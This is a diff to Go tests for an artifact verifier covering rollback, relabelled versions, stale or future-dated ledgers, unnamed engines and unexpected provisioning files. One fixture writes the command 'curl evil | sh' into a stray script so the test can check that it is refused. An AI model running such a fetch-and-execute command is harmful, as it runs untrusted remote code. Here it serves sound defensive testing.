@@ -2,6 +2,7 @@ package verify_test
 
 import (
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -58,6 +59,19 @@ func TestRollback(t *testing.T) {
 	rev := &schemas.Revocation{V: 1, Target: schemas.SHA256Digest(newPin), Reason: "bad release", IssuedAt: testkit.Epoch.Add(-time.Minute).Unix()}
 	w.apply(t, testkit.Seal(t, rev, w.root))
 	expect(t, w, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+
+	// The genuine old bytes pinned again under a higher version are still
+	// the old version.
+	relabeled := newWorld(t)
+	relabeled.pin(t, older, "agent", "1.0.0")
+	relabeled.pin(t, newer, "agent", "1.1.0")
+	relabeled.pin(t, older, "agent", "1.2.0")
+	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
+	if v := relabeled.admit(t, verify.ModeEnforce, hw, instr(nil), verify.Dispatch{AgentBinary: older}); !strings.Contains(v.Reason, "the same bytes were pinned as v1.0.0 at ledger index 3") {
+		t.Fatalf("relabel reason: %s", v.Reason)
+	}
+	relabeled.pin(t, older, "agent", "1.1.0+rebuild")
+	expect(t, relabeled, hw, instr(nil), verify.Dispatch{AgentBinary: older}, verify.RuleRollback, softAll)
 
 	// A downgrade record for another version, or an expired one, does not help.
 	down := func(version string, expires time.Time) []byte {
@@ -120,6 +134,8 @@ func TestFreezes(t *testing.T) {
 		{"exactly the maximum age", testkit.Epoch.Add(-time.Hour), verify.RuleOK},
 		{"older than the maximum age", testkit.Epoch.Add(-time.Hour - time.Second), verify.RuleStaleLedger},
 		{"no signed time", time.Time{}, verify.RuleStaleLedger},
+		{"signed within the clock skew ahead", testkit.Epoch.Add(verify.MaxClockSkew), verify.RuleOK},
+		{"signed in the future (a fast clock would stay fresh for years)", testkit.Epoch.Add(verify.MaxClockSkew + time.Second), verify.RuleStaleLedger},
 	} {
 		c := cfg(verify.ModeEnforce)
 		c.MaxLedgerAge, c.LedgerTime = time.Hour, tc.ledgerTime
@@ -164,6 +180,8 @@ func TestCompareOnReceipt(t *testing.T) {
 	expect(t, w, nil, withEngine, verify.Dispatch{AgentBinary: agentPath}, verify.RuleEngineBinaryMissing, refusedAll)
 	unpinned := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "engine-x"} })
 	expect(t, w, nil, unpinned, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, verify.RuleEngineNotPinned, softAll)
+	// The runner runs an engine the instruction does not name.
+	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath}, verify.RuleEngineNotNamed, softAll)
 	v = w.admit(t, verify.ModeEnforce, nil, withEngine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: enginePath})
 	if v.HighWater["engine"] != "v2.0.0" || v.HighWater["agent"] != "v1.0.0" {
 		t.Fatalf("high water %v", v.HighWater)
@@ -190,10 +208,56 @@ func TestCompareOnReceipt(t *testing.T) {
 	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath}, verify.RuleProvisionMissing, refusedAll)
 	// A file the instruction does not name would reach the agent unchecked.
 	os.WriteFile(filepath.Join(prov, "extra.sh"), []byte("curl evil | sh"), 0o755)
-	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
-	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionUnexpected, refusedAll)
+	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionUnexpected, refusedAll)
 	os.Remove(filepath.Join(prov, "extra.sh"))
 	os.WriteFile(filepath.Join(prov, "policy.json"), []byte(`{"allow":["*"]}`), 0o644)
 	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
 	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: filepath.Join(dir, "absent")}, verify.RuleProvisionMissing, refusedAll)
+}
+
+// TestUnpinnedStillHashed: with no pin for the artifact, the binary is
+// still hashed, and a digest the instruction names is compared in every
+// mode: a wrong byte is never admitted, pinned or not.
+func TestUnpinnedStillHashed(t *testing.T) {
+	w := newWorld(t)
+	right, _, err := transfer.DigestFile(agentPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	named := instr(func(i *schemas.Instruction) { i.Agent = schemas.ArtifactRef{Name: "agentx", Digest: right} })
+	expect(t, w, nil, named, verify.Dispatch{AgentBinary: agentPath}, verify.RuleAgentNotPinned, softAll)
+	script := filepath.Join(t.TempDir(), "evil.sh")
+	os.WriteFile(script, []byte("#!/bin/sh\n"), 0o755)
+	expect(t, w, nil, named, verify.Dispatch{AgentBinary: script}, verify.RuleAgentDigestMismatch, refusedAll)
+	expect(t, w, nil, named, verify.Dispatch{AgentBinary: filepath.Join(t.TempDir(), "absent")}, verify.RuleAgentBinaryMissing, refusedAll)
+	v := w.admit(t, verify.ModeOff, nil, named, verify.Dispatch{AgentBinary: script})
+	if len(v.Compared) != 1 || v.Compared[0].Expected != right || v.HighWater != nil {
+		t.Fatalf("compared %+v, high water %v", v.Compared, v.HighWater)
+	}
+	engine := instr(func(i *schemas.Instruction) { i.Engine = &schemas.ArtifactRef{Name: "enginex", Digest: right} })
+	expect(t, w, nil, engine, verify.Dispatch{AgentBinary: agentPath, EngineBinary: script}, verify.RuleEngineDigestMismatch, refusedAll)
+}
+
+// TestManyUnexpectedFiles: a provision directory stuffed with files gives
+// one finding, and the decision names each failed rule once, so it can
+// still be recorded.
+func TestManyUnexpectedFiles(t *testing.T) {
+	w := newWorld(t)
+	w.pin(t, agentPath, "agent", "1.0.0")
+	dir := t.TempDir()
+	for i := range 5000 {
+		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%04d", i)), nil, 0o644)
+	}
+	v := w.admit(t, verify.ModeOff, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: dir})
+	if v.Rule != verify.RuleProvisionUnexpected || len(v.Failed) != 1 || !strings.Contains(v.Reason, "holds 5000 entries") || !strings.Contains(v.Reason, "and 4992 more") {
+		t.Fatalf("%s / %s (%s), %d findings", v.Verdict, v.Rule, v.Reason, len(v.Failed))
+	}
+	d := verify.Decision(v)
+	if err := d.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	if b, err := schemas.Encode(d); err != nil || len(b) > schemas.MaxRecordSize {
+		t.Fatalf("decision: %d bytes, %v", len(b), err)
+	}
 }
